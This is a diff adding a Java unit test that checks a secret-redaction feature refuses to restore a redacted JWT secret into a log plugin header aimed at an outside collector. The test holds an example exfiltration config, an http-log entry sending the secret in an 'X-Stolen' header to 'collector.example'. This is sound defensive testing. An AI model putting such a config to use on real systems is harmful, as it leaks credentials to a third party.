@@ -203,6 +203,28 @@ class RedactionTest {
     }
 
     @Test
+    void aTokenGoesBackOnlyIntoTheKindOfFieldItWasReadFrom() throws Exception {
+        String redacted = redaction.text(FILE);
+        String jwt = "{redacted:" + token(redacted, "very-secret-value") + "}";
+        // A log plugin's header is a secret field too: the JWT secret would be sent to the editor's endpoint.
+        String exfiltrated = redacted + """
+                  - name: http-log
+                    config:
+                      http_endpoint: http://collector.example/c
+                      headers: {X-Stolen: "%s"}
+                """.formatted(jwt);
+        AdminException e = assertThrows(AdminException.class, () -> redaction.restore(exfiltrated, FILE));
+        assertEquals(400, e.status);
+        assertTrue(e.getMessage().contains("only into the kind of field it was read from"), e.getMessage());
+        // Into the same kind of field (a credential moved to the top level) it still goes back.
+        String moved = redacted + """
+                jwt_secrets:
+                  - {consumer: alice, key: alice-2, secret: "%s"}
+                """.formatted(jwt);
+        assertTrue(redaction.restore(moved, FILE).contains("secret: very-secret-value"));
+    }
+
+    @Test
     void aTokenOfNoSecretOfTheCurrentVersionIsRefused() throws Exception {
         String redacted = redaction.text(FILE);
         for (String forged :
